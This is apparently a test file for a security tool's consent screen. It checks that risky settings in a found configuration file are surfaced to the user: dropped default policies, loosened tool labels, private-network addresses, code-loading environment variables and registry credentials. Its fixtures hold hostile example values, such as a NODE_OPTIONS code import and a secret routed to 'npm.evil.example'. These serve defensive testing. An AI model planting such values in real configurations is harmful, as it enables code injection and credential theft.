/** What the user is shown of a configuration that was found in a folder: whatever in it makes Cordon ask or stop less. */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { test } from 'node:test';
import { agreementTo, isInEffect } from '@cordon/config';
import { keepSecret } from '@cordon/config/keys';
import { ConfigurationFolder } from '@cordon/testkit/configuration-folder.ts';
import { drawFile, TerminalAgreement } from '../../src/questions/agreement-question.ts';
import { Terminal } from '../../src/terminal/terminal.ts';
import { terminalClock } from '../../src/terminal/terminal-clock.ts';
import { Screen } from '../../src/text/screen.ts';

function drawn(content: object): string {
  using folder = new ConfigurationFolder();
  return drawnIn(folder, content);
}

function drawnIn(folder: ConfigurationFolder, content: object): string {
  folder.write('cordon.json', JSON.stringify(content));
  const configuration = folder.load();
  assert.ok(configuration.ok);
  let text = '';
  const output = { write: (piece: string) => (text += piece) };
  drawFile(new Screen({ output, columns: () => 200, hasColor: false }), configuration.value, 'new');
  return text;
}

const APPS = { mail: { command: 'node', manifest: { description: 'Keeps mail.' } } };

test('ready-made policies that a found file leaves out are named', () => {
  const without = drawn({ apps: APPS, packs: ['recipients'] });
  assert.match(
    without,
    /without the default policies secrets, personal-data, injection, links, code, loops, tool-poisoning/,
  );
  assert.doesNotMatch(drawn({ apps: APPS }), /without the default/);
});

test('labels of a found file that have less asked are named, and others are not', () => {
  const loose = {
    'send_*': { irreversible: false, outward: false },
    read: { readOnly: true, identifying: [] },
  };
  const text = drawn({ apps: APPS, labels: { tools: loose } });
  assert.match(text, /labels: less is asked, because these tools can be undone: mail\/send_\*/);
  assert.match(text, /labels: less is asked, because these tools send nothing to others: mail\/send_\*/);
  assert.match(text, /labels: less is asked, because these tools change nothing: mail\/read/);
  assert.match(
    text,
    /labels: less is asked, because these tools say only by some arguments whom or what they act upon: mail\/read/,
  );
  const strict = { 'send_*': { irreversible: true, outward: true, untrusted: true } };
  assert.doesNotMatch(drawn({ apps: APPS, labels: { tools: strict } }), /labels:/);
});

// Attack: so much that is harmless that what matters is cut from the screen.
test('no right of a found file is left out, however many there are', () => {
  const many = (what: string) => Array.from({ length: 200 }, (_, at) => `${what}-${at}`);
  using folder = new ConfigurationFolder();
  const files = [...many('notes'), 'last-folder'];
  for (const file of files) folder.write(`${file}/text`, '');
  const manifest = {
    description: 'Keeps mail.',
    files: { read: files },
    network: [...many('mail').map((name) => `${name}.example.com`), 'last.example.org'],
  };
  const tools = Object.fromEntries(
    [...many('look'), 'send_money'].map((name) => [name, { irreversible: false }]),
  );
  const args = [...many('argument'), 'last-argument'];
  const text = drawnIn(folder, { apps: { mail: { command: 'node', args, manifest } }, labels: { tools } });
  for (const last of ['last-folder', 'last.example.org', 'mail/send_money', 'last-argument'])
    assert.ok(text.includes(last), last);
});

// Attack: the site of a stranger leads to the user's router.
test('a name that a found file leads into the own network is named as such, and another is not', () => {
  const network = ['mail.example.com', 'news.example.org@192.168.1.1'];
  const text = drawn({
    apps: { mail: { command: 'node', manifest: { description: 'Keeps mail.', network } } },
  });
  assert.match(
    text,
    /leads into your own network, perhaps to this machine: =?news\.example\.org@192\.168\.1\.1\n/,
  );
  assert.doesNotMatch(drawn({ apps: APPS }), /your own network/);
});

// Attack: a known program is started with other code.
test('variables that a found file sets are named without their values, and what can load code is marked', () => {
  const env = { NODE_OPTIONS: '--import=data:text/javascript,evil', API_TOKEN: 'sesame' };
  const text = drawn({ apps: { mail: { ...APPS.mail, env } } });
  assert.match(text, /sets variables: NODE_OPTIONS \(can load other code\), API_TOKEN/);
  assert.doesNotMatch(text, /sesame|evil/);
  assert.doesNotMatch(drawn({ apps: APPS }), /sets variables/);
});

test('whom a found file lets rules ask is named', () => {
  const text = drawn({
    apps: APPS,
    detectors: { model: 'obedient', ocr: { url: 'http://localhost:1/ocr' } },
  });
  assert.match(text, /rules ask a model: obedient/);
  assert.match(text, /rules ask for ocr: http:\/\/localhost:1\/ocr/);
  assert.doesNotMatch(drawn({ apps: APPS }), /rules ask/);
});

test('modules that a found file lets rules ask are named, with what they reach', () => {
  using folder = new ConfigurationFolder();
  folder.write('own/tone.mjs', 'export default {};');
  const modules = [{ file: 'own/tone.mjs', network: ['api.example.com'] }];
  const text = drawnIn(folder, { apps: APPS, detectors: { modules } });
  assert.match(text, /rules ask a module: .*own\/tone\.mjs/);
  assert.match(text, /network: api\.example\.com/);
});

test('a module that changes has to be agreed to again, though the file that names it stays the same', async () => {
  using folder = new ConfigurationFolder();
  folder.write('own/tone.mjs', 'export default {};');
  folder.write('cordon.json', JSON.stringify({ detectors: { modules: ['own/tone.mjs'] } }));
  const now = () => 0;
  const isTaken = (): boolean => {
    const loaded = folder.load();
    assert.ok(loaded.ok, JSON.stringify(loaded));
    return isInEffect(loaded.value, now);
  };
  assert.equal(isTaken(), false);
  const configuration = folder.load();
  assert.ok(configuration.ok);
  const screen = new Screen({ output: { write: () => true }, columns: () => 80, hasColor: false });
  const terminal = new Terminal({
    input: new PassThrough(),
    output: new PassThrough(),
    screen,
    isInteractive: false,
    marksPastes: false,
    clock: terminalClock,
    onInterrupt: () => undefined,
  });
  const signal = new AbortController().signal;
  const asks = new TerminalAgreement({ screen, terminal, signal });
  const parts = { asks, now, agreesUnasked: true };
  assert.equal(await agreementTo(configuration.value, parts), null);
  terminal.close();
  assert.equal(isTaken(), true);
  folder.write('own/helper.mjs', 'export const all = true;');
  assert.equal(isTaken(), false);
});

// Attack: a later change of the file hands the secret of another app to a registry of somebody else.
test('which secret a registry gets is named, and no value', () => {
  using folder = new ConfigurationFolder();
  const kept = { ownDataFolder: join(folder.home, '.local/share/cordon'), folder: folder.project };
  assert.equal(keepSecret(kept, 'github', 'hunter2').ok, true);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder as people write it
  const packages = { '//npm.evil.example/:_authToken': '${secret:github}' };
  const text = drawnIn(folder, { apps: APPS, packages });
  assert.match(text, /credentials: the secret `github` goes to \/\/npm\.evil\.example\//);
  assert.doesNotMatch(text, /hunter2/);
  assert.doesNotMatch(drawn({ apps: APPS }), /the secret/);
});

test('registries of a found file, and what of the own network they are, are named', () => {
  const text = drawn({
    apps: APPS,
    packages: {
      '@corp:registry': 'https://npm.corp.example/',
      privateAddresses: { 'npm.corp.example': ['10.20.0.15'] },
    },
  });
  assert.match(text, /packages come from \(@corp:registry\): https:\/\/npm\.corp\.example\//);
  assert.match(text, /reaches your own network: packages from npm\.corp\.example, at 10\.20\.0\.15/);
  assert.doesNotMatch(drawn({ apps: APPS }), /packages|own network/);
});
